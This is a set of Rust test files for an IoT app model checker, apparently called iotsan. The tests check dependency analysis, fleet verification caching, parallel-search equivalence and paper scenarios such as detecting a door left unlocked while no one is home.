        // Sharding an exact store never changes the admitted set.
        prop_assert_eq!(sharded_new, exact_new);
        prop_assert_eq!(sharded.len(), exact.len());
        // Re-inserting everything yields zero new states in all stores.
        for state in &states {
            prop_assert!(!exact.insert(state));
            prop_assert!(!bitstate.insert(state));
            prop_assert!(!sharded.insert(state));
            prop_assert!(sharded.contains(state));
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(8))]

    /// For randomly chosen pairs of corpus apps, the sequential design finds
    /// every violation the strict-concurrent design finds (the paper's
    /// justification for adopting the sequential model), and system-state
    /// encoding is deterministic.
    #[test]
    fn sequential_covers_concurrent_violations(a in 0usize..12, b in 0usize..12) {
        let named = market::named_apps();
        let pair = [named[a % named.len()].clone(), named[b % named.len()].clone()];
        let sources: Vec<&str> = pair.iter().map(|x| x.source.as_str()).collect();
        let Ok(mut apps) = translate_sources(&sources) else { return Ok(()); };
        apps.dedup_by(|x, y| x.name == y.name);
        let config = expert_configure(&apps, &standard_household());
        let pipeline = iotsan::Pipeline::with_events(1);
        let config = pipeline.restrict_config(&apps, &config);
        let system = InstalledSystem::new(apps, config);

        // Deterministic encoding.
        let state = system.initial_state();
        let mut e1 = Vec::new();
        let mut e2 = Vec::new();
        state.encode_into(&mut e1);
        state.encode_into(&mut e2);
        prop_assert_eq!(e1, e2);

        let sequential = SequentialModel::new(system.clone(), PropertySet::all(), ModelOptions::with_events(1));
        let seq = Checker::new(SearchConfig::with_depth(1)).verify(&sequential);
        let concurrent = ConcurrentModel::new(system, PropertySet::all(), ModelOptions::with_events(1));
        let conc = Checker::new(SearchConfig::with_depth(concurrent.suggested_depth())).verify(&concurrent);
        let seq_props = seq.violated_properties();
        for p in conc.violated_properties() {
            prop_assert!(seq_props.contains(&p), "property P{p:02} found only by the concurrent design");
        }
    }

    /// Related sets cover every leaf vertex and contain no redundant subsets.
    #[test]
    fn related_sets_cover_leaves_and_are_subset_free(indices in proptest::collection::vec(0usize..20, 2..6)) {
        let named = market::named_apps();
        let group: Vec<market::MarketApp> =
            indices.iter().map(|i| named[i % named.len()].clone()).collect();
        let sources: Vec<&str> = group.iter().map(|a| a.source.as_str()).collect();
        let Ok(mut apps) = translate_sources(&sources) else { return Ok(()); };
        apps.dedup_by(|x, y| x.name == y.name);
        let (graph, sets) = iotsan::depgraph::analyze(&apps);
        // Every leaf appears in at least one related set.
        for leaf in graph.leaves() {
            prop_assert!(sets.sets.iter().any(|s| s.contains(&leaf)), "leaf {leaf} uncovered");
        }
        // No set is a subset of another.
        for (i, s1) in sets.sets.iter().enumerate() {
            for (j, s2) in sets.sets.iter().enumerate() {
                if i != j {
                    prop_assert!(!(s1.is_subset(s2)), "set {i} is a redundant subset of set {j}");
                }
            }
        }
        // The reduction never loses handlers: the union of all sets covers
        // every vertex that has any connection or conflict.
        prop_assert!(sets.largest_handler_count(&graph) <= graph.handler_count());
    }
}
