//! Golden lint-report test: the analyzer's diagnostics over the named market
//! corpus under the standard expert configuration are pinned to a committed
//! baseline.  Any change to the lint rules, the corpus, or the household
//! configuration shows up as a reviewable diff in
//! `tests/golden/market_lints.txt`.
//!
//! Regenerate the baseline with:
//!
//! ```sh
//! UPDATE_GOLDEN=1 cargo test -p iotsan --test analysis_lints
//! ```

use iotsan::analysis::{lint_system, render_report, LintKind};
use iotsan::config::{expert_configure, standard_household};
use iotsan::translate_sources;
use iotsan_apps::market;
use std::fs;
use std::path::{Path, PathBuf};

fn golden_path() -> PathBuf {
    // CARGO_MANIFEST_DIR is crates/core; the goldens live at the repo root.
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/golden/market_lints.txt")
}

fn market_report() -> String {
    let apps_src = market::market_apps();
    let sources: Vec<&str> = apps_src.iter().map(|a| a.source.as_str()).collect();
    let apps = translate_sources(&sources).expect("market corpus translates");
    let config = expert_configure(&apps, &standard_household());
    render_report(&lint_system(&apps, &config))
}

#[test]
fn market_lint_report_matches_golden() {
    let actual = market_report();
    let path = golden_path();
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        fs::create_dir_all(path.parent().unwrap()).expect("create tests/golden");
        fs::write(&path, &actual).expect("write golden");
        return;
    }
    let expected = fs::read_to_string(&path)
        .expect("tests/golden/market_lints.txt exists (run with UPDATE_GOLDEN=1 to create)");
    assert_eq!(
        actual, expected,
        "lint report drifted from the golden baseline; \
         rerun with UPDATE_GOLDEN=1 and review the diff"
    );
}

/// The report is deterministic: diagnostics arrive sorted by app, handler,
/// location and kind, so repeated runs are byte-identical.
#[test]
fn market_lint_report_is_deterministic() {
    assert_eq!(market_report(), market_report());
}

/// Every diagnostic carries full provenance — a non-empty app, handler and
/// location — so findings are actionable without re-running the analyzer.
#[test]
fn diagnostics_carry_provenance() {
    let apps_src = market::market_apps();
    let sources: Vec<&str> = apps_src.iter().map(|a| a.source.as_str()).collect();
    let apps = translate_sources(&sources).expect("market corpus translates");
    let config = expert_configure(&apps, &standard_household());
    for d in lint_system(&apps, &config) {
        assert!(!d.app.is_empty(), "diagnostic without app: {d}");
        assert!(!d.handler.is_empty(), "diagnostic without handler: {d}");
        assert!(!d.location.is_empty(), "diagnostic without location: {d}");
        assert!(!d.message.is_empty(), "diagnostic without message: {d}");
        // The rendered line embeds the machine-readable slug CI greps for.
        assert!(format!("{d}").contains(d.kind.slug()), "slug missing from rendering: {d}");
    }
    // Exercise the deny classification used by `analyze --deny-dead-code`.
    assert!(LintKind::DeadHandler.denied_as_dead_code());
    assert!(!LintKind::SelfLoop.denied_as_dead_code());
}
