//! Workspace smoke test: the public API surface every downstream consumer
//! (examples, benches, the `repro` harness) relies on must stay reachable
//! through the `iotsan` facade crate alone.

use iotsan::checker::{Checker, SearchConfig};
use iotsan::config::{expert_configure, standard_household, SystemConfig};
use iotsan::properties::PropertySet;
use iotsan::{translate_sources, Pipeline};

const BRIGHTEN_MY_PATH: &str = r#"
definition(name: "Brighten My Path", namespace: "st", author: "x", description: "d")
preferences {
    section("s") { input "motionSensor", "capability.motionSensor" }
    section("s") { input "lights", "capability.switch", multiple: true }
}
def installed() { subscribe(motionSensor, "motion.active", onMotion) }
def onMotion(evt) { lights.on() }
"#;

/// `translate_sources`, `Pipeline`, `PropertySet` and `Checker` — the four
/// entry points named in the quickstart — are all reachable and composable
/// through the facade.
#[test]
fn facade_exposes_the_pipeline_entry_points() {
    let apps = translate_sources(&[BRIGHTEN_MY_PATH]).expect("corpus app translates");
    assert_eq!(apps.len(), 1);
    assert_eq!(apps[0].name, "Brighten My Path");

    let properties = PropertySet::all();
    assert_eq!(properties.len(), 45);

    let config = expert_configure(&apps, &standard_household());
    let result = Pipeline::with_events(1).verify(&apps, &config);
    assert!(!result.has_violations());

    // The checker is independently reachable for custom models, in both its
    // sequential and parallel (multi-core) forms.
    let _ = Checker::new(SearchConfig::with_depth(1));
    let _ = iotsan::checker::ParallelChecker::new(SearchConfig::with_depth(1).parallel(4));
}

/// The re-exported sibling crates stay addressable by their facade paths
/// (`iotsan::checker`, `iotsan::config`, ...), which the integration tests,
/// benches and `repro` binary all import.
#[test]
fn facade_reexports_every_subsystem() {
    let _ = iotsan::groovy::SmartApp::parse(BRIGHTEN_MY_PATH);
    let _ = iotsan::ir::Value::Int(1);
    let _ = iotsan::devices::registry();
    let _ = iotsan::depgraph::analyze(&[]);
    let _ = iotsan::properties::PropertySet::all();
    let _ = iotsan::attribution::AttributionThresholds::default();
    let _ = SystemConfig::new();
}

/// Configurations serialize through the vendored serde stack and round-trip.
#[test]
fn system_config_json_round_trips_through_facade() {
    let apps = translate_sources(&[BRIGHTEN_MY_PATH]).expect("corpus app translates");
    let config = expert_configure(&apps, &standard_household());
    let reparsed = SystemConfig::from_json(&config.to_json()).expect("round-trips");
    assert_eq!(config, reparsed);
}
