//! Fleet-verification acceptance suite for the group-wise planner.
//!
//! Three guarantees are enforced here on the 8-app market corpus:
//!
//! 1. **Decomposition**: the planner partitions the corpus into at least two
//!    independent groups (the whole point of the dependency analyzer).
//! 2. **Soundness of the decomposition**: the merged violated-property set of
//!    the group-wise fleet check equals a monolithic whole-fleet check of the
//!    same corpus — splitting must not hide or invent violations.
//! 3. **Cache correctness** (property-based): re-verifying a fleet after
//!    mutating one app re-checks exactly the groups containing it, and the
//!    merged `FleetReport` is outcome-identical to a cold full run on the
//!    mutated bundle.

use iotsan::config::{expert_configure, standard_household, SystemConfig};
use iotsan::ir::IrApp;
use iotsan::{translate_sources, Pipeline, VerificationCache};
use iotsan_apps::market;
use proptest::prelude::*;

/// The first 8 market apps under the expert household configuration.
fn market8() -> (Vec<IrApp>, SystemConfig) {
    let corpus: Vec<market::MarketApp> = market::market_apps().into_iter().take(8).collect();
    let sources: Vec<&str> = corpus.iter().map(|a| a.source.as_str()).collect();
    let apps = translate_sources(&sources).expect("corpus apps translate");
    let config = expert_configure(&apps, &standard_household());
    (apps, config)
}

#[test]
fn fleet_partitions_market_corpus_into_independent_groups() {
    let (apps, config) = market8();
    let mut cache = VerificationCache::new();
    let report = Pipeline::with_events(2).verify_fleet(&apps, &config, &mut cache);
    assert!(
        report.groups.len() >= 2,
        "expected >= 2 independent groups, got {:?}",
        report.groups.iter().map(|g| g.apps.clone()).collect::<Vec<_>>()
    );
    // Every non-excluded app is verified in at least one group.
    for app in &apps {
        if !app.dynamic_discovery {
            assert!(
                !report.groups_containing(&app.name).is_empty(),
                "{} not covered by any group",
                app.name
            );
        }
    }
    assert_eq!(report.cache_misses, report.groups.len());
}

#[test]
fn fleet_violations_match_monolithic_whole_fleet_check() {
    let (apps, config) = market8();
    let pipeline = Pipeline::with_events(2);
    let mut cache = VerificationCache::new();
    let fleet = pipeline.verify_fleet(&apps, &config, &mut cache);
    // The monolithic baseline verifies every app in one group, skipping
    // dependency analysis entirely.
    let verifiable: Vec<IrApp> = apps.iter().filter(|a| !a.dynamic_discovery).cloned().collect();
    let monolithic = pipeline.verify_group(&verifiable, &config);
    assert_eq!(
        fleet.violated_properties(),
        monolithic.violated_properties(),
        "group-wise fleet check and monolithic check disagree"
    );
}

#[test]
fn warm_rerun_is_pure_cache_replay() {
    let (apps, config) = market8();
    let pipeline = Pipeline::with_events(2);
    let mut cache = VerificationCache::new();
    let cold = pipeline.verify_fleet(&apps, &config, &mut cache);
    let warm = pipeline.verify_fleet(&apps, &config, &mut cache);
    assert_eq!(warm.cache_hits, warm.groups.len());
    assert_eq!(warm.cache_misses, 0);
    assert!(warm.groups.iter().all(|g| g.from_cache));
    assert_eq!(warm.outcome(), cold.outcome());
}

/// Property-directed slicing is part of the task identity: a cache warmed by
/// unsliced runs contributes nothing to a sliced run (and vice versa), while
/// warm replay *within* each mode stays intact — and the two modes agree on
/// every verdict.
#[test]
fn sliced_and_unsliced_runs_never_share_cache_entries() {
    let (apps, config) = market8();
    let unsliced = Pipeline::with_events(2);
    let mut sliced = Pipeline::with_events(2);
    sliced.search.slice = true;

    let mut cache = VerificationCache::new();
    let plain_cold = unsliced.verify_fleet(&apps, &config, &mut cache);
    let sliced_cold = sliced.verify_fleet(&apps, &config, &mut cache);
    assert_eq!(sliced_cold.cache_hits, 0, "a sliced run replayed an unsliced verdict");
    assert_eq!(sliced_cold.outcome(), plain_cold.outcome());

    let sliced_warm = sliced.verify_fleet(&apps, &config, &mut cache);
    assert_eq!(sliced_warm.cache_hits, sliced_warm.groups.len());
    assert_eq!(sliced_warm.cache_misses, 0);
    assert_eq!(sliced_warm.outcome(), sliced_cold.outcome());

    let plain_warm = unsliced.verify_fleet(&apps, &config, &mut cache);
    assert_eq!(plain_warm.cache_hits, plain_warm.groups.len());
    assert_eq!(plain_warm.cache_misses, 0);
    assert_eq!(plain_warm.outcome(), plain_cold.outcome());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(6))]

    /// Mutating one app (its IR content, not its event profile) and
    /// re-verifying with a warm cache re-checks exactly the groups containing
    /// that app, and the merged report equals a cold full run on the mutated
    /// bundle.
    #[test]
    fn mutating_one_app_rechecks_exactly_its_groups(index in 0usize..8) {
        let (apps, config) = market8();
        let pipeline = Pipeline::with_events(2);
        let mut cache = VerificationCache::new();
        pipeline.verify_fleet(&apps, &config, &mut cache);

        let mut mutated = apps.clone();
        let slot = index % mutated.len();
        let target = mutated[slot].name.clone();
        mutated[slot].description.push_str(" (v2)");
        // Skip indices whose app is excluded from verification.
        if mutated[slot].dynamic_discovery {
            return Ok(());
        }

        let warm = pipeline.verify_fleet(&mutated, &config, &mut cache);
        for group in &warm.groups {
            let contains_target = group.apps.contains(&target);
            prop_assert_eq!(group.from_cache, !contains_target);
        }
        prop_assert!(warm.cache_misses >= 1);

        let mut cold_cache = VerificationCache::new();
        let cold = pipeline.verify_fleet(&mutated, &config, &mut cold_cache);
        prop_assert_eq!(warm.outcome(), cold.outcome());
    }
}
