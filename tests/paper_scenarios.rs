//! Scenario tests tied to specific claims, tables and figures of the paper.

use iotsan::checker::{Checker, SearchConfig};
use iotsan::config::{expert_configure, misconfigure, standard_household};
use iotsan::depgraph::analyze;
use iotsan::model::{ConcurrentModel, ModelOptions, SequentialModel};
use iotsan::properties::{PropertyClass, PropertySet};
use iotsan::system::InstalledSystem;
use iotsan::{translate_sources, Pipeline};
use iotsan_apps::{market, samples};

fn translate(group: &[market::MarketApp]) -> Vec<iotsan::ir::IrApp> {
    let sources: Vec<&str> = group.iter().map(|a| a.source.as_str()).collect();
    translate_sources(&sources).expect("corpus apps translate")
}

/// §2.2: the Virtual Thermostat misconfiguration — binding both the heater
/// outlet and the AC outlet to `outlets` — violates "an AC and a heater are
/// both turned on"; the expert configuration does not.
#[test]
fn virtual_thermostat_misconfiguration_turns_on_heater_and_ac() {
    let group: Vec<market::MarketApp> =
        market::named_apps().into_iter().filter(|a| a.name == "Virtual Thermostat").collect();
    let apps = translate(&group);
    let household = standard_household();

    // Volunteer-style misconfiguration: every switch outlet bound.
    let bad = misconfigure(&apps, &household, 42);
    let pipeline = Pipeline::with_events(2);
    let bad_result = pipeline.verify(&apps, &bad);
    let bad_names: Vec<String> = bad_result
        .violations()
        .iter()
        .filter_map(|(p, _)| {
            pipeline.properties.get(iotsan::properties::PropertyId(*p)).map(|p| p.name.clone())
        })
        .collect();
    assert!(
        bad_names.iter().any(|n| n.contains("AC and a heater")),
        "misconfiguration did not produce the AC+heater violation: {bad_names:?}"
    );

    // Expert configuration (a single outlet) does not violate that property.
    let good = expert_configure(&apps, &household);
    let good_result = pipeline.verify(&apps, &good);
    let good_names: Vec<String> = good_result
        .violations()
        .iter()
        .filter_map(|(p, _)| {
            pipeline.properties.get(iotsan::properties::PropertyId(*p)).map(|p| p.name.clone())
        })
        .collect();
    assert!(
        !good_names.iter().any(|n| n.contains("AC and a heater")),
        "expert configuration unexpectedly violates the AC+heater property"
    );
}

/// Figure 4 / Table 3: the example dependency graph produces exactly the five
/// final related sets of the paper, and the scale ratio is > 2.
#[test]
fn figure4_related_sets_match_the_paper() {
    let apps = translate(&samples::figure4_group());
    let (graph, sets) = analyze(&apps);
    let mut sizes: Vec<usize> = sets.sets.iter().map(|s| s.len()).collect();
    sizes.sort_unstable();
    assert_eq!(sizes, vec![1, 2, 2, 2, 3], "related set sizes diverge from Table 3c");
    assert!(sets.scale_ratio(&graph) > 2.0);
}

/// Table 7b's headline: the sequential design explores far fewer states than
/// the strict-concurrent design on the good group, while finding the same
/// violations (none, for the good group).
#[test]
fn sequential_design_is_cheaper_and_equally_effective() {
    let apps = translate(&samples::good_group());
    let pipeline = Pipeline::with_events(2);
    let config = pipeline.restrict_config(&apps, &expert_configure(&apps, &standard_household()));
    let system = InstalledSystem::new(apps.clone(), config);

    let sequential =
        SequentialModel::new(system.clone(), PropertySet::all(), ModelOptions::with_events(2));
    let seq_report = Checker::new(SearchConfig::with_depth(2)).verify(&sequential);

    let concurrent = ConcurrentModel::new(system, PropertySet::all(), ModelOptions::with_events(2));
    let conc_report =
        Checker::new(SearchConfig::with_depth(concurrent.suggested_depth())).verify(&concurrent);

    assert_eq!(
        seq_report.violated_properties(),
        conc_report.violated_properties(),
        "the two designs disagree on violations"
    );
    assert!(
        conc_report.stats.states_stored > seq_report.stats.states_stored,
        "concurrent ({}) should explore more states than sequential ({})",
        conc_report.stats.states_stored,
        seq_report.stats.states_stored
    );
}

/// Table 8's shape: verification cost grows monotonically (and sharply) with
/// the number of external events.
#[test]
fn verification_cost_grows_with_event_bound() {
    let apps = translate(&samples::table8_group());
    let pipeline = Pipeline::with_events(1);
    let config = pipeline.restrict_config(&apps, &expert_configure(&apps, &standard_household()));
    let mut transitions = Vec::new();
    for events in 1..=3usize {
        let system = InstalledSystem::new(apps.clone(), config.clone());
        let model =
            SequentialModel::new(system, PropertySet::all(), ModelOptions::with_events(events));
        let report = Checker::new(SearchConfig::with_depth(events)).verify(&model);
        transitions.push(report.stats.transitions);
    }
    assert!(transitions[1] > transitions[0]);
    assert!(transitions[2] > transitions[1]);
    // The growth is super-linear (state-space expansion, Table 8's shape).
    assert!(
        (transitions[2] - transitions[1]) >= (transitions[1] - transitions[0]),
        "growth is not accelerating: {transitions:?}"
    );
}

/// §8's claim that none of the analyzed apps check whether their commands
/// were carried out: with failures injected, the robustness property is
/// violated for a representative market group.
#[test]
fn robustness_property_fires_under_failures() {
    let apps = translate(&samples::bad_group_mode_unlock());
    let config = expert_configure(&apps, &standard_household());
    let pipeline = Pipeline::with_events(2).with_failures();
    let result = pipeline.verify(&apps, &config);
    let classes = result.violations_by_class(&pipeline.properties);
    assert!(
        classes.get("Robustness").copied().unwrap_or(0) >= 1,
        "robustness violation not reported: {classes:?}"
    );
}

/// The 38 default physical invariants are all exercised by the property set
/// used throughout the evaluation (sanity check that nothing was dropped).
#[test]
fn default_property_set_covers_all_invariants() {
    let set = PropertySet::all();
    assert_eq!(set.len(), 45);
    let invariant_count =
        set.properties().iter().filter(|p| p.class == PropertyClass::PhysicalState).count();
    assert_eq!(invariant_count, 38);
    // Every physical invariant reads the snapshot and none needs a monitor
    // slot, so the state vector stays flat.
    assert!(set
        .properties()
        .iter()
        .filter(|p| p.class == PropertyClass::PhysicalState)
        .all(|p| p.reads_state()));
}

/// Counterexamples render in the Figure 7 style, mentioning the triggering
/// presence event, the mode change and the unlock command.
#[test]
fn figure7_counterexample_contains_the_full_chain() {
    let apps = translate(&samples::bad_group_mode_unlock());
    let pipeline = Pipeline::with_events(2);
    let config = pipeline.restrict_config(&apps, &expert_configure(&apps, &standard_household()));
    let system = InstalledSystem::new(apps, config);
    let model = SequentialModel::new(system, PropertySet::all(), ModelOptions::with_events(2));
    let report = Checker::new(SearchConfig::with_depth(2)).verify(&model);
    let found = report
        .violations
        .iter()
        .find(|v| {
            v.violation.description.contains("main door should be locked when no one is at home")
        })
        .expect("unlock-door violation");
    let rendered = found.trace.render(&found.violation);
    assert!(rendered.contains("not present"), "missing presence event:\n{rendered}");
    assert!(rendered.contains("location.mode = Away"), "missing mode change:\n{rendered}");
    assert!(rendered.contains("unlock"), "missing unlock command:\n{rendered}");
    assert!(rendered.contains("assertion violated"));
}
