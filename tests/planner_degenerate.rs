//! Degenerate-household edges of the fleet planner: zero apps, zero
//! devices, one device, unbound/empty bindings — sequential, parallel and
//! sliced.  All of these must plan and verify to a well-formed (possibly
//! empty) [`iotsan::FleetReport`]; none may panic on an empty related set.
//!
//! These households are exactly the small end of what the scenario factory
//! (`iotsan-scenarios`) generates, so keeping them green keeps the fuzzing
//! floor safe.

use iotsan::{Pipeline, VerificationCache};
use iotsan_config::{expert_configure, AppConfig, Binding, DeviceConfig, SystemConfig};
use iotsan_ir::IrApp;

const LIGHT: &str = r#"
definition(name: "L", namespace: "st", author: "a", description: "d")
preferences {
    section("s") { input "motionSensor", "capability.motionSensor" }
    section("s") { input "lights", "capability.switch", multiple: true }
}
def installed() { subscribe(motionSensor, "motion.active", h) }
def h(evt) { lights.on() }
"#;

fn verify(pipeline: &Pipeline, apps: &[IrApp], config: &SystemConfig) -> iotsan::FleetReport {
    pipeline.verify_fleet(apps, config, &mut VerificationCache::new())
}

#[test]
fn zero_devices_with_handler_app_yields_a_wellformed_report() {
    // Household with NO devices at all: required inputs bound to empty lists.
    let apps = iotsan::translate_sources(&[LIGHT]).unwrap();
    let config = expert_configure(&apps, &[]);
    let report = verify(&Pipeline::with_events(2), &apps, &config);
    assert!(report.cache_hits == 0);
    assert_eq!(report.outcome().len(), report.groups.len());
}

#[test]
fn one_device_household_verifies() {
    let apps = iotsan::translate_sources(&[LIGHT]).unwrap();
    let devices = vec![DeviceConfig::new("m0", "motionSensor", "")];
    let config = expert_configure(&apps, &devices);
    let report = verify(&Pipeline::with_events(2), &apps, &config);
    assert_eq!(report.groups.len(), 1, "one app forms one group");
}

#[test]
fn zero_apps_yields_the_empty_fleet_report() {
    let config = SystemConfig::new().with_device(DeviceConfig::new("d0", "switch", ""));
    for workers in [1, 4] {
        let pipeline = Pipeline::with_events(2).with_workers(workers);
        let report = verify(&pipeline, &[], &config);
        assert!(report.groups.is_empty(), "workers={workers}: no apps, no groups");
        assert!(report.violated_properties().is_empty());
        assert_eq!(report.original_handlers, 0);
    }
}

#[test]
fn parallel_one_device_matches_sequential() {
    let apps = iotsan::translate_sources(&[LIGHT]).unwrap();
    let devices = vec![DeviceConfig::new("m0", "motionSensor", "")];
    let config = expert_configure(&apps, &devices);
    let seq = verify(&Pipeline::with_events(2), &apps, &config);
    let par = verify(&Pipeline::with_events(2).with_workers(4), &apps, &config);
    assert_eq!(seq.outcome(), par.outcome());
}

#[test]
fn verify_group_accepts_empty_members() {
    let config = SystemConfig::new();
    let pipeline = Pipeline::with_events(2);
    let result = pipeline.verify_group(&[], &config);
    assert!(result.report.violated_properties().is_empty());
}

#[test]
fn sliced_zero_apps_yields_the_empty_fleet_report() {
    let mut pipeline = Pipeline::with_events(2);
    pipeline.search = pipeline.search.clone().sliced();
    let config = SystemConfig::new().with_device(DeviceConfig::new("d0", "switch", ""));
    let report = verify(&pipeline, &[], &config);
    assert!(report.groups.is_empty());
}

#[test]
fn unbound_required_input_still_plans() {
    // App installed but its config binds nothing at all (invalid per
    // SystemConfig::validate, but verify_fleet must degrade, not panic).
    let apps = iotsan::translate_sources(&[LIGHT]).unwrap();
    let config = SystemConfig::new().with_app(AppConfig::new("L"));
    let report = verify(&Pipeline::with_events(2), &apps, &config);
    assert_eq!(report.outcome().len(), report.groups.len());
}

#[test]
fn empty_binding_lists_still_plan() {
    let apps = iotsan::translate_sources(&[LIGHT]).unwrap();
    let config = SystemConfig::new().with_app(
        AppConfig::new("L")
            .with("motionSensor", Binding::Devices(vec![]))
            .with("lights", Binding::Devices(vec![])),
    );
    let report = verify(&Pipeline::with_events(2), &apps, &config);
    assert_eq!(report.outcome().len(), report.groups.len());
}
