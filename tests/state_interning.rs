//! Interner and state-representation guarantees.
//!
//! The zero-allocation exploration core rests on two properties:
//!
//! 1. **The interner is a bijection over its inputs** — `intern → resolve`
//!    is the identity and duplicate strings never mint new symbols
//!    (proptests below);
//! 2. **Interned ordering is deterministic** — two [`InstalledSystem`]s built
//!    from the same apps and configuration assign identical symbol ids and
//!    state-variable slots, so their state encodings are byte-identical
//!    across builds and runs (the visited-set and fleet-cache fingerprints
//!    depend on it).

use iotsan::ir::Symbols;
use iotsan::system::InstalledSystem;
use iotsan::translate_sources;
use iotsan_config::{expert_configure, standard_household};
use proptest::prelude::*;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// `intern` followed by `resolve` returns the original string, for every
    /// string in the batch, interleaved with duplicates.
    #[test]
    fn intern_resolve_round_trips(names in proptest::collection::vec("[a-zA-Z0-9 _.:-]{0,24}", 1..40)) {
        let mut symbols = Symbols::new();
        let syms: Vec<_> = names.iter().map(|n| symbols.intern(n)).collect();
        for (name, sym) in names.iter().zip(&syms) {
            prop_assert_eq!(symbols.resolve(*sym), name.as_str());
            prop_assert_eq!(symbols.lookup(name), Some(*sym));
        }
    }

    /// Deduplication holds: the table size equals the number of *distinct*
    /// inputs, and re-interning any input returns its original symbol.
    #[test]
    fn interning_deduplicates(names in proptest::collection::vec("[a-z]{0,6}", 1..60)) {
        let mut symbols = Symbols::new();
        let first_pass: Vec<_> = names.iter().map(|n| symbols.intern(n)).collect();
        let distinct: std::collections::BTreeSet<&String> = names.iter().collect();
        prop_assert_eq!(symbols.len(), distinct.len());
        // A second pass mints nothing new and reproduces every symbol.
        for (name, sym) in names.iter().zip(&first_pass) {
            prop_assert_eq!(symbols.intern(name), *sym);
        }
        prop_assert_eq!(symbols.len(), distinct.len());
    }
}

const APP_A: &str = r#"
definition(name: "Auto Mode Change", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "people", "capability.presenceSensor", multiple: true } }
def installed() { subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    state.lastSeen = evt.value
    if (evt.value == "not present") { setLocationMode("Away") } else { setLocationMode("Home") }
}
"#;

const APP_B: &str = r#"
definition(name: "Unlock Door", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "lock1", "capability.lock" } }
def installed() { subscribe(location, "mode", changedLocationMode) }
def changedLocationMode(evt) { state.count = 1
    lock1.unlock() }
"#;

/// Builds the installed system fresh from sources (separate translations, so
/// nothing is accidentally shared between the two builds under comparison).
fn build_system() -> InstalledSystem {
    let apps = translate_sources(&[APP_A, APP_B]).expect("apps translate");
    let config = expert_configure(&apps, &standard_household());
    InstalledSystem::new(apps, config)
}

/// Two systems built from the same apps must produce byte-identical
/// encodings for equal states — including after identical mutations that
/// exercise app-state slots and pending events — proving the interned
/// ordering (symbol ids, slot layout) is a deterministic function of the
/// input and not of hash-map iteration or allocation order.
#[test]
fn same_apps_encode_byte_identically_across_builds() {
    let sys_a = build_system();
    let sys_b = build_system();

    // The frozen symbol tables agree entry by entry.
    assert_eq!(sys_a.symbols.len(), sys_b.symbols.len());
    for (sym, text) in sys_a.symbols.iter() {
        assert_eq!(sys_b.symbols.resolve(sym), text);
    }

    let encode = |sys: &InstalledSystem| {
        let mut state = sys.initial_state();
        sys.set_app_var(
            &mut state,
            "Auto Mode Change",
            "lastSeen",
            &iotsan::ir::Value::Str("not present".into()),
        );
        sys.set_app_var(&mut state, "Unlock Door", "count", &iotsan::ir::Value::Int(1));
        state.pending.push(iotsan::system::InternalEvent {
            device: None,
            attribute: sys.sym_of("mode"),
            value: iotsan::ir::Value::Str("Away".into()),
            physical: false,
        });
        let mut buf = Vec::new();
        state.encode_into(&mut buf);
        buf
    };
    assert_eq!(encode(&sys_a), encode(&sys_b));
}

/// Repeated encodings of the same state through a reused buffer are
/// identical (the caller-owned buffer contract of `encode_into`).
#[test]
fn reused_buffer_encodings_are_stable() {
    let sys = build_system();
    let state = sys.initial_state();
    let mut buf = Vec::new();
    state.encode_into(&mut buf);
    let first = buf.clone();
    for _ in 0..3 {
        buf.clear();
        state.encode_into(&mut buf);
        assert_eq!(buf, first);
    }
}
