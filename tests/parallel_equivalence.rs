//! Equivalence suite for the parallel search engine: for the same bounded
//! model, [`ParallelChecker`] must report exactly the set of violated
//! properties the sequential [`Checker`] reports — and, with exact storage,
//! the same state and transition counts, since depth-tagged state identity
//! makes the explored frontier schedule-independent.

use iotsan::checker::{Checker, ParallelChecker, SearchConfig, SearchReport};
use iotsan::config::{expert_configure, standard_household};
use iotsan::model::{ModelOptions, SequentialModel};
use iotsan::properties::PropertySet;
use iotsan::system::InstalledSystem;
use iotsan::translate_sources;
use iotsan_apps::{market, samples};
use proptest::prelude::*;

/// Builds the sequential-design model for a set of corpus apps under the
/// expert configuration restricted to those apps' devices.
fn model_for(apps_sources: &[&str], events: usize) -> Option<SequentialModel> {
    let mut apps = translate_sources(apps_sources).ok()?;
    apps.dedup_by(|x, y| x.name == y.name);
    let config = expert_configure(&apps, &standard_household());
    let pipeline = iotsan::Pipeline::with_events(events);
    let config = pipeline.restrict_config(&apps, &config);
    let system = InstalledSystem::new(apps, config);
    Some(SequentialModel::new(system, PropertySet::all(), ModelOptions::with_events(events)))
}

fn assert_equivalent(seq: &SearchReport, par: &SearchReport, context: &str) {
    assert_eq!(
        seq.violated_properties(),
        par.violated_properties(),
        "violation sets diverge ({context})"
    );
    assert_eq!(seq.stats.states_stored, par.stats.states_stored, "state counts ({context})");
    assert_eq!(seq.stats.transitions, par.stats.transitions, "transition counts ({context})");
    assert_eq!(
        seq.stats.max_depth_reached, par.stats.max_depth_reached,
        "depth reached ({context})"
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(8))]

    /// Random pairs of market apps at random depths and worker counts:
    /// the parallel checker is a drop-in replacement for the sequential one.
    #[test]
    fn parallel_matches_sequential_on_random_configs(
        a in 0usize..12,
        b in 0usize..12,
        depth in 1usize..4,
        workers in 2usize..5,
    ) {
        let named = market::named_apps();
        let pair = [named[a % named.len()].clone(), named[b % named.len()].clone()];
        let sources: Vec<&str> = pair.iter().map(|x| x.source.as_str()).collect();
        let Some(model) = model_for(&sources, depth) else { return Ok(()); };

        let seq = Checker::new(SearchConfig::with_depth(depth)).verify(&model);
        let par =
            ParallelChecker::new(SearchConfig::with_depth(depth).parallel(workers)).verify(&model);
        prop_assert_eq!(seq.violated_properties(), par.violated_properties());
        prop_assert_eq!(seq.stats.states_stored, par.stats.states_stored);
        prop_assert_eq!(seq.stats.transitions, par.stats.transitions);
    }
}

/// Depth-4 sweep (the ISSUE's bound) over fixed groups: a violating group and
/// a safe group, checked at every worker count up to 8.
#[test]
fn depth_four_equivalence_on_fixed_groups() {
    for group in [samples::bad_group_mode_unlock(), samples::good_group()] {
        let sources: Vec<&str> = group.iter().map(|a| a.source.as_str()).collect();
        let model = model_for(&sources, 4).expect("corpus apps translate");
        let seq = Checker::new(SearchConfig::with_depth(4)).verify(&model);
